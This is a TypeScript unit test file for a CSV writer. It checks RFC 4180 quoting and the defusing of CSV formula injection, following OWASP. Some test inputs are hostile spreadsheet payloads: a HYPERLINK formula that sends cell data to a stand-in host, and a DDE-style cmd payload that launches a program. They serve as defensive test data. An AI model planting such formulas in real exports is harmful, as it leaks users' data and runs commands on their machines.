import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('the CSV writer (RFC 4180, OWASP CSV injection)', () => {
  it('quotes fields holding a comma, quote, line break or semicolon, doubling quotes', () => {
    expect(csvCell('North, top')).toBe('"North, top"');
    expect(csvCell('Say "hi"')).toBe('"Say ""hi"""');
    expect(csvCell('Line one\nline two\r\nthree')).toBe('"Line one\nline two\r\nthree"');
    // Spreadsheets set to a semicolon separator would otherwise start a new cell here.
    expect(csvCell('Top;=1+1')).toBe('"Top;=1+1"');
  });

  it('puts an apostrophe before a text cell that starts with =, +, -, @, tab or carriage return', () => {
    expect(csvCell('=HYPERLINK("https://evil.example?d="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example?d=""&A1,""Click"")"`);
    expect(csvCell('+61 400 000 000')).toBe("'+61 400 000 000");
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves numbers as numbers and ordinary text alone', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(1234.5)).toBe('1234.5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell('Home paddock')).toBe('Home paddock');
    expect(csvCell('<b id="x">Top</b>')).toBe('"<b id=""x"">Top</b>"');
  });

  it('writes a header and rows with CRLF and a byte-order mark; header cells are defused too', () => {
    expect(toCsv(['a', 'b'], [[1, 'x']])).toBe('\uFEFFa,b\r\n1,x\r\n');
    expect(toCsv(['=a'], [['North, "top"\nfield']])).toBe('\uFEFF\'=a\r\n"North, ""top""\nfield"\r\n');
  });
});
